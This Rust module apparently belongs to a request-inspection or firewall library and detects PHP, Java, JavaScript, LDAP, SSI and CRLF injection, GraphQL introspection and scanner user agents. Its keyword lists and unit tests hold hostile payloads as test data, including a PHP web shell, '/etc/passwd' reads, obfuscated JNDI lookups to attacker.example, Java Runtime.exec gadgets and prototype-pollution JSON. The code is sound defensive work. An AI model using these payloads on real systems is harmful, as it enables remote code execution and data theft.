//! Injection into other interpreters and protocols: PHP code, Java (JNDI lookups,
//! runtime and expression-language gadgets), JavaScript runtimes (prototype pollution,
//! Node.js internals), LDAP filters, server-side includes, CR/LF injection into headers and
//! mail or IMAP/SMTP sessions, and the user agents of attack tools.
//!
//! Each rule looks for syntax the target interpreter needs (an opening tag, a call with a
//! code-like argument, a filter operator after a broken parenthesis), not for payload
//! strings. Every check is a forward scan of the lowercased value: linear time.

use std::borrow::Cow;

use crate::sql::Hit;

/// PHP functions that run commands or code, read or write files, or decode hidden code.
use crate::needles::Needles;

static PHP_FUNCTION_NEEDLES: Needles = Needles::new(PHP_FUNCTIONS);
static PHP_GLOBAL_NEEDLES: Needles = Needles::new(PHP_GLOBALS);
static TOOL_NEEDLES: Needles = Needles::new(TOOLS);
/// Every literal the Java and JavaScript rules look for, searched in one pass.
static RUNTIME_NEEDLES: Needles = Needles::union(&[
    JAVA_MARKERS,
    JS_MARKERS,
    PROTO_KEYS,
    SERIAL_STREAM_MAGIC,
    JAVA_PACKAGES,
]);

const PROTO_KEYS: &[&str] = &["__proto__"];
/// A serialized Java object's stream header, in hex and in base64 at each of the three
/// alignments base64 can give it (after 0, 1 or 2 bytes of something else).
const SERIAL_STREAM_MAGIC: &[&str] = &["aced0005", "ro0ab", "kztaa", "cs7qaf"];

/// Java packages whose classes run code, reach files, sockets, naming and reflection, or
/// are the links of known deserialization gadget chains. A class of one of them named in a
/// request (`java.io.FileOutputStream`, `org.apache.commons.collections.Transformer`) is how
/// polymorphic deserializers, expression languages and JNDI are told what to build.
/// Lower case, as Java spells packages; matched with their case.
pub(crate) const JAVA_PACKAGES: &[&str] = &[
    "java.lang",
    "java.io",
    "java.nio",
    "java.net",
    "java.rmi",
    "java.beans",
    "java.util",
    "java.security",
    "java.sql",
    "javax.naming",
    "javax.script",
    "javax.management",
    "javax.xml",
    "javax.el",
    "jdk.internal",
    "jdk.nashorn",
    "jdk.jshell",
    "sun.misc",
    "sun.reflect",
    "sun.rmi",
    "com.sun",
    "org.apache.commons",
    "org.apache.xalan",
    "org.apache.xbean",
    "org.apache.tomcat",
    "org.apache.catalina",
    "org.apache.naming",
    "org.apache.logging",
    "org.apache.struts2",
    "org.apache.bcel",
    "org.omg",
    "org.springframework",
    "org.codehaus.groovy",
    "org.mozilla.javascript",
    "org.hibernate",
    "org.yaml.snakeyaml",
    "org.python",
    "com.opensymphony",
    "com.mchange",
    "com.alibaba.fastjson",
    "com.fasterxml.jackson",
    "freemarker.template",
    "groovy.lang",
    "ognl",
    "bsh",
];

const PHP_FUNCTIONS: &[&str] = &[
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "eval",
    "assert",
    "create_function",
    "call_user_func",
    "call_user_func_array",
    "base64_decode",
    "str_rot13",
    "gzinflate",
    "gzuncompress",
    "gzdecode",
    "file_put_contents",
    "file_get_contents",
    "fopen",
    "fwrite",
    "fputs",
    "readfile",
    "include",
    "include_once",
    "require",
    "require_once",
    "phpinfo",
    "unserialize",
    "move_uploaded_file",
    "highlight_file",
    "show_source",
    "preg_replace",
    "array_map",
    "ini_set",
    "putenv",
    "symlink",
    "posix_kill",
    "mail",
    "var_dump",
    "print_r",
    "print",
    "md5",
    "chr",
];

/// PHP's request and environment arrays.
/// The PHP functions that are also English words (or, like `eval`, their short forms).
const ENGLISH_NAMES: &[&str] = &[
    "system", "include", "require", "assert", "print", "mail", "eval",
];

const PHP_GLOBALS: &[&str] = &[
    "$_get",
    "$_post",
    "$_request",
    "$_cookie",
    "$_server",
    "$_files",
    "$_env",
    "$_session",
    "$globals",
    "$http_raw_post_data",
];

/// Java classes and expressions that reach the runtime, reflection or known
/// deserialization gadgets.
const JAVA_MARKERS: &[&str] = &[
    "java.lang.runtime",
    "getruntime()",
    "java.lang.processbuilder",
    "processbuilder(",
    "java.lang.reflect",
    "java.lang.system",
    "java.lang.class",
    "#_memberaccess",
    "@java.lang.",
    "t(java.",
    "java.beans.xmldecoder",
    "invokertransformer",
    "org.apache.commons.collections",
    "com.sun.org.apache",
    "javax.script.scriptenginemanager",
    "javax.naming",
    "class.module.classloader",
    ".getclass().forname(",
    "getdeclaredmethod(",
    "java.io.fileinputstream",
    "java.net.url",
    "new java.",
    // The functors and carriers of the commons-collections and JDK gadget chains.
    "instantiatetransformer",
    "instantiatefactory",
    "chainedtransformer",
    "constanttransformer",
    "clonetransformer",
    "prototypeclonefactory",
    "prototypeserializationfactory",
    "whileclosure",
    "forclosure",
    "templatesimpl",
    "jdbcrowsetimpl",
    "badattributevalueexpexception",
    "annotationinvocationhandler",
    // `java.` starting a dotted name: the runtime reached through it is checked by
    // [`Marks::of`] (`java.Runtime`, `java.evil.ProcessBuilder`).
    "java.",
];

/// Node.js and JavaScript runtime internals a sandbox escape or code injection reaches for.
const JS_MARKERS: &[&str] = &[
    "child_process",
    "process.mainmodule",
    "process.binding(",
    "process.env",
    "global.process",
    "require('fs')",
    "require(\"fs\")",
    ".constructor.constructor(",
    "constructor.prototype",
    "constructor[\"prototype\"]",
    "constructor['prototype']",
];

/// Headers an attacker adds by injecting a line break into a response or a mail.
const INJECTED_HEADERS: &[&str] = &[
    "set-cookie",
    "location",
    "content-length",
    "content-type",
    "transfer-encoding",
    "refresh",
    "access-control-allow-origin",
    "x-xss-protection",
    "bcc",
    "cc",
    "to",
    "from",
    "reply-to",
    "subject",
];

/// SMTP and POP commands that make a line of their own.
const MAIL_ALONE: &[&str] = &["data", "quit", "rset", "noop", "starttls", "stls", "capa"];

/// SMTP commands with an argument: `RCPT TO:<x>`, `HELO host`.
const MAIL_WITH_ARGUMENT: &[&str] = &["rcpt to:", "mail from:", "helo ", "ehlo ", "vrfy ", "expn "];

/// IMAP commands, which follow a tag (`A1 FETCH 1`).
const IMAP_COMMANDS: &[&str] = &[
    "capability",
    "login",
    "select",
    "examine",
    "fetch",
    "store",
    "logout",
    "list",
    "create",
    "delete",
    "rename",
    "append",
    "uid",
    "copy",
    "search",
    "authenticate",
    "noop",
];

/// Security scanners and attack tools, by the names in their user agents.
const TOOLS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nuclei",
    "openvas",
    "nessus",
    "nmap scripting engine",
    "masscan",
    "zgrab",
    "wpscan",
    "acunetix",
    "netsparker",
    "invicti",
    "appscan",
    "w3af",
    "arachni",
    "dirbuster",
    "gobuster",
    "dirb/",
    "wfuzz",
    "fuzz faster u fool",
    "ffuf",
    "havij",
    "commix",
    "jaeles",
    "xsstrike",
    "skipfish",
    "whatweb",
    "nettacker",
    "feroxbuster",
    "hydra",
    "zap/",
    "burp",
    "paros",
    "webinspect",
    "grabber",
    "bbqsql",
    "jorgee",
    "morfeus",
    "zmeu",
];

fn push(hits: &mut Vec<Hit>, rule: &'static str, score: u32) {
    crate::sql::add(hits, Hit { rule, score });
}

/// Whether `word` occurs in `text` at `at` as a whole word (not inside a longer name).
fn word_at(text: &str, at: usize, word: &str) -> bool {
    let before = text[..at].bytes().next_back();
    let after = text.as_bytes().get(at + word.len()).copied();
    let inner = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    !before.is_some_and(inner) && !after.is_some_and(inner)
}

/// The first byte after `at` that is not a blank, skipping comments: `/*...*/`, and
/// `//...` or `#...` to the end of the line (PHP reads all three).
fn next_code_byte(text: &str, mut at: usize) -> Option<u8> {
    let bytes = text.as_bytes();
    loop {
        while bytes.get(at).is_some_and(|b| b.is_ascii_whitespace()) {
            at += 1;
        }
        if bytes.get(at..at + 2) == Some(b"/*") {
            at = text[at + 2..]
                .find("*/")
                .map_or(bytes.len(), |e| at + 2 + e + 2);
            continue;
        }
        let line_comment = match bytes.get(at) {
            Some(b'#') => Some(1),
            Some(b'/') if bytes.get(at + 1) == Some(&b'/') => Some(2),
            _ => None,
        };
        if let Some(len) = line_comment
            && let Some(end) = text[at + len..].find('\n')
        {
            at += len + end + 1;
            continue;
        }
        return bytes.get(at).copied();
    }
}

/// PHP calls whose callee is computed, at level 2: a variable function (`$f(`, `$$f(`,
/// `$_[0](`, `@$__['o'](`), or a parenthesized or quoted expression called with a
/// string or variable (`(system)('id')`, `"sys"."tem"('id')`, `{[system][0]}('id')`).
fn dynamic_call(lower: &str) -> bool {
    let bytes = lower.as_bytes();
    let ident = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    for (i, &b) in bytes.iter().enumerate() {
        match b {
            b'$' if bytes.get(i + 1).is_none_or(|&n| n != b'$') => {
                let mut at = i + 1;
                // A PHP name starts with a letter or `_` (`$5` is a price).
                if !bytes
                    .get(at)
                    .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
                {
                    continue;
                }
                while bytes.get(at).copied().is_some_and(ident) {
                    at += 1;
                }
                // Index or property steps: `[...]`, `{...}`.
                while let Some(&open @ (b'[' | b'{')) = bytes.get(at) {
                    let close = if open == b'[' { ']' } else { '}' };
                    match lower[at..].find(close) {
                        Some(end) if end <= 32 => at += end + 1,
                        _ => break,
                    }
                }
                // Called at once: prose puts a blank between `$x` and a parenthesis.
                if bytes.get(at) == Some(&b'(') {
                    return true;
                }
            }
            b')' | b'\'' | b'"' | b']' | b'}' => {
                if next_code_byte(lower, i + 1) != Some(b'(') {
                    continue;
                }
                let paren = i + 1 + lower[i + 1..].find('(').unwrap_or(0);
                if matches!(next_code_byte(lower, paren + 1), Some(b'\'' | b'"' | b'$')) {
                    return true;
                }
            }
            _ => {}
        }
    }
    false
}

/// PHP: opening tags, dangerous functions called with a code-like argument, the request
/// arrays, and serialized objects.
pub fn php(value: &str) -> Vec<Hit> {
    let lower = crate::lower_case(value);
    let mut hits = Vec::new();
    // Every opening tag starts with `<`, `[` or `{`.
    let tags = memchr::memchr3(b'<', b'[', b'{', lower.as_bytes()).is_some();
    if tags
        && (lower.contains("<?php")
            || lower.contains("<?=")
            || ["[php]", "[/php]", "[\\php]", "{php}", "{/php}"]
                .iter()
                .any(|t| lower.contains(t)))
    {
        push(&mut hits, "php.open_tag", 5);
    } else if let Some(p) = lower.find("<?").filter(|_| tags) {
        // `<?` then code; `<?xml version=...` is markup, `<?xml :echo` is not.
        let rest = lower[p + 2..].trim_start();
        let xml_declaration = rest.strip_prefix("xml").is_some_and(|r| {
            r.trim_start().starts_with("version")
                || r.trim_start().starts_with("?>")
                || r.is_empty()
        });
        if !xml_declaration && !rest.is_empty() {
            push(&mut hits, "php.open_tag", 4);
        }
    }
    // A call needs its parenthesis; the request arrays start with `$`.
    let calls = lower.contains('(');
    PHP_FUNCTION_NEEDLES.each(if calls { &lower } else { "" }, |name, at| {
        let from = at + name.len();
        if word_at(&lower, at, name) {
            // A call whose argument reads as code: a variable, a string, another call's
            // result, a backtick, or no argument at all.
            if next_code_byte(&lower, from) == Some(b'(') {
                let open = lower[from..].find('(').map_or(from, |o| from + o + 1);
                let arg = next_code_byte(&lower, open);
                if matches!(arg, Some(b'$' | b'\'' | b'"' | b')' | b'`'))
                    || lower[open..]
                        .trim_start()
                        .starts_with(|c: char| c.is_ascii_alphabetic())
                        && lower[open..]
                            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                            .next()
                            .is_some_and(|w| PHP_FUNCTIONS.contains(&w))
                {
                    push(&mut hits, "php.function_call", 5);
                } else if !["s)", "es)"].iter().any(|p| lower[open..].starts_with(p))
                    && (lower.as_bytes().get(from) == Some(&b'(') || !ENGLISH_NAMES.contains(&name))
                {
                    // Any argument at all: level 2. Not the plural idiom (`system(s)`), and
                    // not an English word, then a blank and an aside (`include (if any)`).
                    push(&mut hits, "php.function_call_any", 5);
                }
            }
        }
        true
    });
    if lower.contains('$') && PHP_GLOBAL_NEEDLES.any(&lower) {
        push(&mut hits, "php.request_array", 4);
    }
    if calls && dynamic_call(&lower) {
        push(&mut hits, "php.dynamic_call", 5);
    }
    // A serialized object: `O:8:"stdClass":1:{...}`.
    let bytes = lower.as_bytes();
    for (i, w) in bytes.windows(2).enumerate() {
        if w == b"o:" && (i == 0 || !bytes[i - 1].is_ascii_alphanumeric()) {
            let digits = bytes[i + 2..]
                .iter()
                .take_while(|b| b.is_ascii_digit())
                .count();
            if digits > 0 && bytes[i + 2 + digits..].starts_with(b":\"") {
                push(&mut hits, "php.serialized_object", 5);
                break;
            }
        }
    }
    hits
}

/// Which of the runtime needle lists occur in a value, from one pass over it.
#[derive(Default)]
struct Marks {
    java: bool,
    java_class: bool,
    javascript: bool,
    proto: bool,
    serial: bool,
}

impl Marks {
    fn of(value: &str) -> Marks {
        let mut marks = Marks::default();
        // Most text has none: one pass that stops at the first, then all of them.
        if !RUNTIME_NEEDLES.any(value) {
            return marks;
        }
        RUNTIME_NEEDLES.each(value, |needle, at| {
            // A package can be a marker too (`javax.naming`): both are looked at.
            if JAVA_PACKAGES.contains(&needle) {
                marks.java_class |= java_class_name(value, at, needle);
            }
            if needle == "java." {
                marks.java |= java_runtime_name(value, at);
            } else if JAVA_MARKERS.contains(&needle) {
                marks.java = true;
            } else if JS_MARKERS.contains(&needle) {
                marks.javascript = true;
            } else if PROTO_KEYS.contains(&needle) {
                marks.proto = true;
            } else if SERIAL_STREAM_MAGIC.contains(&needle) {
                marks.serial = true;
            }
            true
        });
        marks
    }
}

/// The dotted name (`a.b.C`) that starts at `at`, if nothing of a longer name comes
/// before it.
fn dotted_name(value: &str, at: usize) -> Option<&str> {
    let name_byte = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$' | b'.');
    if value.as_bytes()[..at].last().is_some_and(name_byte) {
        return None;
    }
    let rest = &value[at..];
    let len = rest.bytes().take_while(name_byte).count();
    Some(&rest[..len])
}

/// Whether the dotted name at `at` starts with `java.` and reaches the runtime or a
/// process builder through it: `java.Runtime`, `java.lang.ProcessBuilder`,
/// `java.evil.runtime`.
fn java_runtime_name(value: &str, at: usize) -> bool {
    dotted_name(value, at).is_some_and(|name| {
        name.split('.').skip(1).any(|segment| {
            segment.eq_ignore_ascii_case("runtime")
                || segment.eq_ignore_ascii_case("processbuilder")
        })
    })
}

/// Whether a class or subpackage of `package` (one of [`JAVA_PACKAGES`]) is named at `at`,
/// spelled as Java spells it: `java.io.File`, `org.omg.CORBA`, `com.opensymphony.xwork2`.
/// A one-word package (`ognl`, `bsh`) counts only with a class after it (`ognl.Ognl`),
/// so that host names such as `ognl.org` do not.
fn java_class_name(value: &str, at: usize, package: &str) -> bool {
    let Some(name) = dotted_name(value, at) else {
        return false;
    };
    let Some(next) = name
        .strip_prefix(package)
        .and_then(|rest| rest.strip_prefix('.'))
    else {
        return false;
    };
    let Some(first) = next.bytes().next() else {
        return false;
    };
    if !(first.is_ascii_alphabetic() || first == b'_') {
        return false;
    }
    package.contains('.') || first.is_ascii_uppercase()
}

/// Java and JavaScript runtimes in one pass over the value: JNDI lookups (also hidden in
/// nested lookups), the runtime, reflection, expression-language gadgets, YAML type tags
/// and serialized objects; prototype pollution and Node.js internals.
pub fn runtime(value: &str) -> Vec<Hit> {
    let marks = Marks::of(value);
    let mut hits = Vec::new();
    // `${jndi:ldap://...}`, also as `${${lower:j}ndi:...}` or `${${::-j}${::-n}di:...}`:
    // the letters after `${` spell jndi and then a naming protocol.
    // (`memchr` first: most values have no `$`, and it is cheaper than setting up the
    // substring search.)
    let lookups = memchr::memchr(b'$', value.as_bytes()).is_some() && value.contains("${");
    // Type tags that make YAML loaders build arbitrary objects.
    let tags = value.bytes().any(|b| matches!(b, b'!' | b':'));
    let lower = if lookups || tags {
        value.to_ascii_lowercase()
    } else {
        String::new()
    };
    let mut from = 0;
    while lookups && let Some(p) = lower[from..].find("${") {
        let start = from + p + 2;
        from = start;
        let letters: String = lower[start..]
            .chars()
            .take(160)
            .filter(char::is_ascii_alphabetic)
            .collect();
        if let Some(j) = letters.find("jndi") {
            let after = &letters[j + 4..];
            if ["ldap", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"]
                .iter()
                .any(|proto| after.contains(proto))
            {
                push(&mut hits, "java.jndi_lookup", 5);
                break;
            }
        }
    }
    if marks.java {
        push(&mut hits, "java.runtime_access", 5);
    }
    if marks.java_class {
        push(&mut hits, "java.class_name", 5);
    }
    if tags
        && [
            "!!python/",
            "!!ruby/",
            "!!java.",
            "!!javax.",
            "!!com.sun",
            "!!org.",
            "tag:yaml.org,2002:python",
            "tag:yaml.org,2002:ruby",
        ]
        .iter()
        .any(|t| lower.contains(t))
    {
        push(&mut hits, "java.deserialization_tag", 5);
    }
    if marks.serial && serialized_java(value) {
        push(&mut hits, "java.serialized_object", 5);
    }
    if marks.proto {
        push(&mut hits, "js.prototype_pollution", 5);
    }
    if marks.javascript {
        push(&mut hits, "js.runtime_access", 5);
    }
    hits
}

/// A serialized Java object's stream magic: in hex (any case), or in base64, whose case
/// is meaningful: `rO0AB`, or after one or two other bytes `KztAA` and a sixth letter
/// from `U` to `X` (the magic's last bits and the next byte's first two), or `Cs7QAF`.
pub(crate) fn serialized_java(value: &str) -> bool {
    value.contains("rO0AB")
        || value.contains("Cs7QAF")
        || value
            .match_indices("KztAA")
            .any(|(at, _)| matches!(value.as_bytes().get(at + 5), Some(b'U'..=b'X')))
        || value
            .as_bytes()
            .windows(8)
            .any(|w| w.eq_ignore_ascii_case(b"aced0005"))
}

/// The Java rules of [`runtime`].
pub fn java(value: &str) -> Vec<Hit> {
    let mut hits = runtime(value);
    hits.retain(|h| h.rule.starts_with("java."));
    hits
}

/// The JavaScript rules of [`runtime`].
pub fn javascript(value: &str) -> Vec<Hit> {
    let mut hits = runtime(value);
    hits.retain(|h| h.rule.starts_with("js."));
    hits
}

/// A JSON or query key that pollutes prototypes: `__proto__`, `constructor`, `prototype`.
pub fn javascript_key(key: &str) -> Vec<Hit> {
    // `__proto__` has its `_`, `constructor[prototype]` its `[`.
    if memchr::memchr2(b'_', b'[', key.as_bytes()).is_none() {
        return Vec::new();
    }
    let lower = crate::lower_case(key);
    if lower == "__proto__"
        || lower.contains("[__proto__]")
        || lower.contains("constructor[prototype]")
    {
        vec![Hit {
            rule: "js.prototype_pollution",
            score: 5,
        }]
    } else {
        Vec::new()
    }
}

/// Whether `s` starts with an LDAP attribute comparison: `name=`, `name~=`, `name>=`,
/// `name<=`, or an extensible match `name:rule:=`.
fn ldap_comparison(s: &str) -> bool {
    let name_len = s
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b';' | b':'))
        .count();
    name_len > 0 && {
        let rest = &s[name_len..];
        rest.starts_with('=')
            || rest.starts_with("~=")
            || rest.starts_with(">=")
            || rest.starts_with("<=")
            || s[..name_len].ends_with(':') && rest.starts_with('=')
    }
}

/// LDAP filter injection: a parenthesis broken to add filter terms (`*)(uid=*`,
/// `admin)(|(a=b)`), filter operators opening nested terms (`(&(`, `(|(`, `(!(`), and
/// extensible matches (`attr:2.5.13.18:=value`).
pub fn ldap(value: &str) -> Vec<Hit> {
    // Every rule below needs a parenthesis, or `:` and `=` (an extensible match, `:=` once
    // blanks are taken out).
    if !(value.contains(['(', ')']) || value.contains(':') && value.contains('=')) {
        return Vec::new();
    }
    let lower = crate::lower_case(value);
    let mut score = 0;
    let compact: Cow<'_, str> = if lower.chars().any(char::is_whitespace) {
        Cow::Owned(lower.chars().filter(|c| !c.is_whitespace()).collect())
    } else {
        lower
    };
    for op in ["(&(", "(|(", "(!("] {
        if compact.contains(op) {
            score = score.max(5);
        }
    }
    let mut from = 0;
    while let Some(p) = compact[from..].find(")(") {
        let at = from + p + 2;
        from = at;
        let rest = compact[at..].trim_start_matches(['&', '|', '!', '(']);
        if ldap_comparison(rest) {
            score = score.max(5);
        }
    }
    // The absolute true and false filters after a broken parenthesis: `admin)(&)`.
    if compact.contains(")(&)") || compact.contains(")(|)") {
        score = score.max(5);
    }
    if compact.contains("*)(") || compact.contains("=*)") && compact.contains(")(") {
        score = score.max(5);
    }
    // An extensible match rule by OID: `userPassword:2.5.13.18:=`.
    if let Some(p) = compact.find(":=") {
        let before = &compact[..p];
        if let Some(colon) = before.rfind(':') {
            let oid = &before[colon + 1..];
            if oid.contains('.') && oid.bytes().all(|b| b.is_ascii_digit() || b == b'.') {
                score = score.max(5);
            }
        }
    }
    if score > 0 {
        vec![Hit {
            rule: "ldap.filter_injection",
            score,
        }]
    } else {
        Vec::new()
    }
}

/// Server-side include directives: `<!--#exec cmd=...-->`, `<!--#include virtual=...-->`.
pub fn ssi(value: &str) -> Vec<Hit> {
    let lower = crate::lower_case(value);
    let mut from = 0;
    while let Some(p) = lower[from..].find("<!--#") {
        let at = from + p + 5;
        from = at;
        let directive = lower[at..].trim_start();
        if [
            "exec", "include", "echo", "config", "fsize", "flastmod", "printenv", "set", "if",
        ]
        .iter()
        .any(|d| directive.starts_with(d))
        {
            return vec![Hit {
                rule: "ssi.directive",
                score: 5,
            }];
        }
    }
    Vec::new()
}

/// A line break followed by a header an attacker wants to set (`\r\nSet-Cookie:`,
/// `\nBcc:`), or by a mail, IMAP or SMTP command (`\r\nRCPT TO:`, `\r\nA1 FETCH`).
pub fn crlf(value: &str) -> Vec<Hit> {
    if !value.contains(['\r', '\n']) {
        return Vec::new();
    }
    let lower = crate::lower_case(value);
    let mut hits = Vec::new();
    for line in lower.split(['\r', '\n']).skip(1) {
        let line = line.trim_start_matches([' ', '\t']);
        if let Some((name, _)) = line.split_once(':')
            && INJECTED_HEADERS.contains(&name.trim_end())
        {
            push(&mut hits, "crlf.header_injection", 5);
        }
        let trimmed = line.trim();
        let words: Vec<&str> = trimmed.split_whitespace().collect();
        let smtp = MAIL_ALONE.contains(&trimmed)
            || MAIL_WITH_ARGUMENT.iter().any(|c| trimmed.starts_with(c)) && words.len() <= 4;
        // IMAP: a tag with a digit, then a command (`V100 CAPABILITY`, `A1 FETCH 4791`).
        let imap = words.len() >= 2
            && words.len() <= 6
            && words[0].bytes().all(|b| b.is_ascii_alphanumeric())
            && words[0].bytes().any(|b| b.is_ascii_digit())
            && IMAP_COMMANDS.contains(&words[1]);
        if smtp || imap {
            push(&mut hits, "crlf.mail_command", 5);
        }
    }
    hits
}

/// GraphQL introspection: `__schema {` or `__type(`, queried as fields.
pub fn graphql(value: &str) -> Vec<Hit> {
    let lower = crate::lower_case(value);
    let queried = |name: &str, next: &[char]| {
        lower.match_indices(name).any(|(at, _)| {
            lower[at + name.len()..]
                .trim_start()
                .starts_with(|c: char| next.contains(&c))
        })
    };
    if queried("__schema", &['{']) || queried("__type", &['(', '{']) {
        vec![Hit {
            rule: "graphql.introspection",
            score: 5,
        }]
    } else {
        Vec::new()
    }
}

/// The user agent of a known attack tool or vulnerability scanner.
pub fn tool_user_agent(value: &str) -> Vec<Hit> {
    let lower = crate::lower_case(value);
    if TOOL_NEEDLES.any(&lower) {
        vec![Hit {
            rule: "scanner.user_agent",
            score: 5,
        }]
    } else {
        Vec::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::total;

    fn score(f: fn(&str) -> Vec<Hit>, value: &str) -> u32 {
        total(&f(value))
    }

    #[test]
    fn every_runtime_needle_is_marked_for_its_rules() {
        for (list, mark) in [
            (JAVA_MARKERS, 0),
            (JS_MARKERS, 1),
            (PROTO_KEYS, 2),
            (SERIAL_STREAM_MAGIC, 3),
            (JAVA_PACKAGES, 4),
        ] {
            for needle in list {
                // A package counts with a class after it, and `java.` with the runtime.
                let needle = match mark {
                    4 => format!("{needle}.Class"),
                    _ if *needle == "java." => "java.Runtime".to_owned(),
                    _ => needle.to_string(),
                };
                let marks = Marks::of(&needle);
                let found = [
                    marks.java,
                    marks.javascript,
                    marks.proto,
                    marks.serial,
                    marks.java_class,
                ];
                assert!(found[mark], "{needle:?} is not seen by Marks::of");
            }
        }
    }

    #[test]
    fn computed_php_calls_and_any_argument_are_level_two() {
        let rules = |v: &str| php(v).into_iter().map(|h| h.rule).collect::<Vec<_>>();
        for call in [
            "$a(1)",
            "$$b(2)",
            "@$__['o'](5)",
            "$_[0]('id')",
            "(system)('uname');",
            "(sy.(st).em)('uname');",
            "(string)\"system\"('uname');",
            "(string) {[system][0]} ('uname');",
        ] {
            assert!(
                rules(call).contains(&"php.dynamic_call"),
                "{call}: {:?}",
                rules(call)
            );
        }
        for call in [
            "exec  (blah)",
            "exec\t(blah)",
            "chr(123)",
            "exec //c\n (blah)",
            "exec #c\n (blah)",
        ] {
            let found = rules(call);
            assert!(
                found.contains(&"php.function_call_any") || found.contains(&"php.function_call"),
                "{call}: {found:?}"
            );
        }
        for text in [
            "price $5 (approx)",
            "$('#id').hide()",
            "f(x) (y)",
            "the system (as designed)",
            "it's (maybe)",
            "[1] (see note)",
        ] {
            let found = rules(text);
            assert!(
                !found.contains(&"php.dynamic_call") && !found.contains(&"php.function_call"),
                "{text}: {found:?}"
            );
        }
    }

    #[test]
    fn php_code_scores_high_and_prose_about_php_does_not() {
        for attack in [
            "<?php echo shell_exec($_GET['c']); ?>",
            "<?= `id` ?>",
            "<? system('id'); ?>",
            "{php}echo 1;{/php}",
            "x;system('cat /etc/passwd');",
            "eval(base64_decode('ZWNobyAxOw=='))",
            "phpinfo()",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            "file_put_contents(\"x.php\", $data)",
        ] {
            assert!(score(php, attack) >= 5, "{attack:?}: {:?}", php(attack));
        }
        for text in [
            "PHP is a popular language",
            "the system(s) we run",
            "please include (if possible) a receipt",
            "<?xml version=\"1.0\"?><a/>",
            "eval (the evaluation) starts monday",
            "Status: O:ok",
        ] {
            assert!(score(php, text) < 5, "{text:?}: {:?}", php(text));
        }
    }

    #[test]
    fn java_lookups_and_gadgets_score_high() {
        for attack in [
            "${jndi:ldap://attacker.example/a}",
            "${${lower:j}ndi:${lower:r}mi://x/y}",
            "${${::-j}${::-n}${::-d}${::-i}:dns://x}",
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
            // The same stream after one and two other bytes: base64's other alignments.
            "AKztAAVzcgAX",
            "AACs7QAFc3IAFw==",
            "java.Runtime",
            "x=java.evil.ProcessBuilder",
            "org.apache.commons.collections.functors.InstantiateTransformer",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
        ] {
            assert!(score(java, attack) >= 5, "{attack:?}: {:?}", java(attack));
        }
        for text in [
            "${HOME}/bin",
            "I like Java and coffee",
            "price: ${price}",
            "the java runtime",
            "https://java.com/en/download",
            "see ognl.org",
            "myjava.lang.Thing",
        ] {
            assert!(score(java, text) < 5, "{text:?}: {:?}", java(text));
        }
    }

    #[test]
    fn platform_class_names_are_level_two() {
        for (text, named) in [
            ("java.io.FileOutputStream", true),
            ("[\"java.lang.String\", \"x\"]", true),
            ("org.omg.CORBA", true),
            ("com.opensymphony.xwork2", true),
            ("ognl.OgnlContext", true),
            ("bsh.Interpreter", true),
            ("Java.Io.File", false),
            ("ognl.org", false),
            ("java.io", false),
            ("my.java.io.File", false),
        ] {
            let hits = java(text);
            assert_eq!(
                hits.iter().any(|h| h.rule == "java.class_name"),
                named,
                "{text:?}: {hits:?}"
            );
        }
        assert_eq!(
            crate::rules::find("java.class_name").map(|r| r.level),
            Some(2)
        );
    }

    #[test]
    fn prototype_pollution_and_node_internals() {
        assert!(score(javascript, "{\"__proto__\":{\"isAdmin\":true}}") >= 5);
        assert!(score(javascript, "require('child_process').exec('id')") >= 5);
        assert!(score(javascript_key, "__proto__") >= 5);
        assert!(score(javascript_key, "a[__proto__][admin]") >= 5);
        assert_eq!(score(javascript, "the constructor of the house"), 0);
    }

    #[test]
    fn ldap_filters_broken_open() {
        for attack in [
            "*)(uid=*))(|(uid=*",
            "admin)(&)",
            "(&(uid=admin)(!(&(1=0)(userPassword=q))))",
            "*(|(objectclass=*))",
            "userPassword:2.5.13.18:=123",
            "x)(cn>=a",
        ] {
            assert!(score(ldap, attack) >= 5, "{attack:?}");
        }
        for text in [
            "see (above)(and below)",
            "f(x)(y) = z",
            "smile :)(",
            "version 1.2.3",
            "a = b",
        ] {
            assert!(score(ldap, text) < 5, "{text:?}");
        }
    }

    #[test]
    fn graphql_introspection() {
        assert!(score(graphql, "{\"query\": \"{__schema {queryType { name }}}\"}") >= 5);
        assert!(
            score(
                graphql,
                "query { __type(name: \"User\") { fields { name } } }"
            ) >= 5
        );
        assert_eq!(score(graphql, "query { user(id: 1) { name } }"), 0);
        assert_eq!(score(graphql, "the __schema folder"), 0);
    }

    #[test]
    fn includes_line_breaks_and_tools() {
        assert!(score(ssi, "<!--#exec cmd=\"ls\" -->") >= 5);
        assert!(score(ssi, "<!--#include virtual=\"/etc/passwd\"-->") >= 5);
        assert_eq!(score(ssi, "<!-- # a comment -->"), 0);
        for attack in [
            "x\r\nSet-Cookie: a=b",
            "me@x.example\nBcc: all@y.example",
            "\r\nV100 CAPABILITY\r\nV101 FETCH 4791",
            "\r\nQUIT\r\n",
            "\nRCPT TO: test@evil.com\n",
        ] {
            assert!(score(crlf, attack) >= 5, "{attack:?}: {:?}", crlf(attack));
        }
        for text in [
            "Dear Bob,\nthanks for the data you sent.\nRegards",
            "line one\nline two: details",
            "Shopping list:\n- milk\n- quit smoking",
            "Hi,\ndata attached\nuser guide: page 2",
        ] {
            assert!(score(crlf, text) < 5, "{text:?}: {:?}", crlf(text));
        }
        assert!(score(tool_user_agent, "sqlmap/1.7.4#stable (https://sqlmap.org)") >= 5);
        assert!(
            score(
                tool_user_agent,
                "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"
            ) == 0
        );
    }
}
